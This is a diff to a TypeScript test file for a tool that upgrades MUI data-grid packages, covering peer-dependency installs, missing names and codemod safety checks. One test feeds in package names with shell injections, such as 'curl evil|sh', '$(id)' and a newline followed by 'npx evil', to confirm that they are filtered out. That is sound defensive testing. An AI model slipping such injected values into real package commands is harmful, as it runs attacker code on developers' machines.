@@ -70,7 +70,7 @@ export const Grid = () => (
   ]);
 });
 
-test('what a codemod wrote and the later version does not have is left', () => {
+test('names that the later version lacks are left, whether a codemod wrote them or not', () => {
   const names = {
     'data-grid': { DataGrid: ['rows', 'columnHeight', 'slots', 'slots.toolbar'], GridNow: null },
   };
@@ -86,6 +86,8 @@ test('what a codemod wrote and the later version does not have is left', () => {
   );
   expect(left.hits.filter(({ change }) => change === 'missing').map(({ name }) => name)).toEqual([
     'GridWrong',
+    'components',
+    'Toolbar',
     'wrong',
     'tolbar',
   ]);
@@ -190,4 +192,76 @@ test('packages are installed in the later release, with the license and the peer
     install: ['@mui/x-data-grid-pro@7.28.3', '@mui/x-license@7.28.0', '@mui/material@^5.15.14'],
     uninstall: ['@mui/x-license-pro'],
   });
+});
+
+const LATER: Releases = {
+  current: [
+    {
+      name: '@mui/x-data-grid',
+      release: '7.28.3',
+      peers: { '@mui/material': '^5.15.14 || ^6.0.0 || ^7.0.0', react: '^17.0.0 || ^18.0.0' },
+    },
+    { name: '@mui/x-date-pickers', release: '7.28.3', peers: {} },
+  ],
+};
+
+test.each([
+  ['what fits', { '@mui/material': '^7.0.1', react: '^18.2.0' }],
+  ['what is unknown', {}],
+  ['what is later than every range', { react: '^19.0.0', '@mui/material': 'latest' }],
+])('no peer is installed in place of %s', (_what, declared) => {
+  const { install } = packagesFor(
+    ['@mui/x-data-grid'],
+    declared,
+    { from: 'v6', to: 'current' },
+    LATER,
+  );
+  expect(install).toEqual(['@mui/x-data-grid@7.28.3']);
+});
+
+test('a package that is later than the release stays', () => {
+  const declared = { '@mui/x-data-grid': '^6.0.0', '@mui/x-date-pickers': '^8.1.0' };
+  expect(packagesFor([], declared, { from: 'v6', to: 'current' }, LATER).install).toEqual([
+    '@mui/x-data-grid@7.28.3',
+  ]);
+});
+
+test('commands have names of packages only', () => {
+  const declared = {
+    '@material-ui/data-grid': '4',
+    '@material-ui/data-grid;curl evil|sh #': '4',
+    '@material-ui/x-grid$(id)': '4',
+    '@material-ui/data-grid\nnpx evil': '4',
+  };
+  expect(packagesFor([], declared, { from: 'v4', to: 'current' }, LATER)).toEqual({
+    install: ['@mui/x-data-grid@7.28.3'],
+    uninstall: ['@material-ui/data-grid'],
+  });
+});
+
+const upgradeGrid = (text: string, codemod = (code: string) => code) =>
+  upgradeFiles([{ name: 'Grid.tsx', text }], { whole: FACTS, steps: [FACTS] }, (file) => ({
+    text: codemod(file.text),
+    codemod: 'test',
+  }));
+
+test('a prop is not renamed to one that the element has', () => {
+  const text = `import { DataGrid } from '@mui/x-data-grid';
+export const a = <DataGrid headHeight={40} columnHeight={50} />;
+`;
+  const { files, left } = upgradeGrid(text);
+  expect(files[0]!.after).toBe(text);
+  expect(left.hits.map(({ name, change }) => [name, change])).toEqual([['headHeight', 'renamed']]);
+});
+
+test.each([
+  ['drop a comment', (code: string) => code.replace('/* all */ ', '')],
+  ['give the prop rows twice', (code: string) => code.replace('id="a"', 'rows={[]}')],
+])('a codemod that would %s does not run', (loss, codemod) => {
+  const text = `import { DataGrid } from '@mui/x-data-grid';
+export const a = <DataGrid /* all */ rows={[]} id="a" headHeight={40} />;
+`;
+  const { files, left } = upgradeGrid(text, codemod);
+  expect(files[0]!.after).toBe(text.replace('headHeight', 'columnHeight'));
+  expect(left.failures[0]!.message).toContain(loss);
 });
